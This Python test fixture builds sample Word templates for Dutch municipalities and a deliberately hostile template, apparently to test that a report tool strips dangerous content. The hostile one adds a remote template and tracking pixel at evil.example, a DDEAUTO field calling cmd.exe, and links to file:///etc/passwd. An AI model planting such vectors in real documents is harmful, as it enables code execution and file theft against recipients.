"""Templates of organisations that could exist, sound and hostile. Made with python-docx, whose styles are not ours."""

from __future__ import annotations

import zipfile
from functools import cache
from io import BytesIO

import docx
from docx.enum.section import WD_ORIENT
from docx.shared import Cm, RGBColor

from tests.report.reading import parts

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000002000000010802000000"
    "7b40e8dd0000000c49444154789c63606060000000040001"
    "f61738550000000049454e44ae426082"
)
_KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MACRO = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TEMPLATE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"


@cache
def template(footer: str = "Postbus 1, Voorbeeldstad", heading: str = "B02060") -> bytes:
    """A letter of a town: its name above, its address below, wide margins, headings in its colour."""
    document = docx.Document()
    document.styles["Heading 1"].font.color.rgb = RGBColor.from_string(heading)
    section = document.sections[0]
    section.page_width, section.page_height, section.orientation = Cm(21), Cm(29.7), WD_ORIENT.PORTRAIT
    section.left_margin = section.right_margin = Cm(3)
    section.header.paragraphs[0].text = "Gemeente Voorbeeldstad"
    section.header.paragraphs[0].add_run().add_picture(BytesIO(PNG), width=Cm(2))
    if footer:
        section.footer.paragraphs[0].text = footer
    document.add_heading("Old text", 1)
    document.add_paragraph("that has to go")
    stream = BytesIO()
    document.save(stream)
    return stream.getvalue()


@cache
def letterhead() -> bytes:
    """A letter whose first page alone has a large logo above it."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height = Cm(21), Cm(29.7)
    section.top_margin, section.different_first_page_header_footer = Cm(3), True
    section.first_page_header.paragraphs[0].add_run().add_picture(BytesIO(PNG), width=Cm(3))
    section.first_page_header.add_paragraph("Dienst Publieke Zaken")
    section.header.paragraphs[0].text = "Dienst Publieke Zaken"
    stream = BytesIO()
    document.save(stream)
    return stream.getvalue()


@cache
def tall_header() -> bytes:
    """A template of a town that is proud of its shield: it stands large on every page, between broad margins."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height = Cm(21), Cm(29.7)
    section.left_margin = section.right_margin = Cm(4.5)
    section.header.paragraphs[0].add_run().add_picture(BytesIO(PNG), width=Cm(4), height=Cm(8))
    section.header.add_paragraph("Gemeente Voorbeeldstad")
    stream = BytesIO()
    document.save(stream)
    return stream.getvalue()


def repacked(data: bytes, **changed: bytes) -> bytes:
    """The file with parts replaced or added; in a name "__" stands for "/" and "_0" for "."."""
    found = parts(data) | {name.replace("__", "/").replace("_0", "."): blob for name, blob in changed.items()}
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, blob in found.items():
            archive.writestr(name, blob)
    return stream.getvalue()


def as_dotx(data: bytes) -> bytes:
    types = parts(data)["[Content_Types].xml"].replace(_MAIN.encode(), _TEMPLATE.encode())
    return repacked(data, **{"[Content_Types].xml": types})


def dutch(data: bytes) -> bytes:
    """As a Dutch Word writes it: the ids of built-in styles are Dutch, their names are not."""
    changed = {}
    for name in ("word/styles.xml", "word/document.xml"):
        blob = parts(data)[name]
        for number in range(1, 5):
            blob = blob.replace(f'"Heading{number}"'.encode(), f'"Kop{number}"'.encode())
        changed[name] = blob.replace(b'"Title"', b'"Titel"')
    return repacked(data, **changed)


def hostile() -> bytes:
    """A template with everything in it that acts or reaches outside."""
    found = parts(template())
    relations = found["word/_rels/document.xml.rels"].decode()
    outside = ' TargetMode="External"'
    added = [
        ("rIdA", "attachedTemplate", "http://evil.example/t.dotm", outside),
        ("rIdB", "image", "http://evil.example/pixel.png", outside),
        ("rIdC", "aFChunk", "chunk.htm", ""),
        ("rIdD", "oleObject", "embeddings/object.bin", ""),
        ("rIdE", "control", "activeX/activeX1.xml", ""),
        ("rIdF", "frame", "file:///etc/passwd", outside),
        ("rIdG", "hyperlink", "https://www.voorbeeldstad.example", outside),
        ("rIdH", "hyperlink", "file:///c:/secret.txt", outside),
        ("rIdI", "subDocument", "other.docx", outside),
    ]
    more = "".join(f'<Relationship Id="{name}" Type="{_KINDS}/{kind}" Target="{to}"{mode}/>' for name, kind, to, mode in added)
    more += f'<Relationship Id="rIdJ" Type="{_MACRO}" Target="vbaProject.bin"/>'
    header = next(name for name in found if name.startswith("word/header"))
    active = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
        '<w:r><w:instrText>PICTURE "http://evil.example/a.png"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rIdB"/></v:shape></w:pict></w:r>'
        '<w:r><w:object><w:control r:id="rIdE"/></w:object></w:r>'
        '<w:hyperlink r:id="rIdG"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdH"><w:r><w:t>secret</w:t></w:r></w:hyperlink></w:p>'
    )
    beside = f"word/_rels/{header.rpartition('/')[2]}.rels"
    settings = found["word/settings.xml"].replace(
        b"<w:characterSpacingControl", b'<w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:characterSpacingControl'
    )
    return repacked(
        template(),
        **{
            "word/_rels/document.xml.rels": relations.replace("</Relationships>", f"{more}</Relationships>").encode(),
            beside: found[beside].replace(b"</Relationships>", f"{more}</Relationships>".encode()),
            header: found[header].replace(b"</w:hdr>", f"{active}</w:hdr>".encode()),
            "word/settings.xml": settings,
            "word/vbaProject.bin": b"macro",
            "word/chunk.htm": b"<script>alert(1)</script>",
            "word/embeddings/object.bin": b"ole",
            "word/activeX/activeX1.xml": b"<ax/>",
            "customUI/customUI.xml": b"<customUI/>",
        },
    )
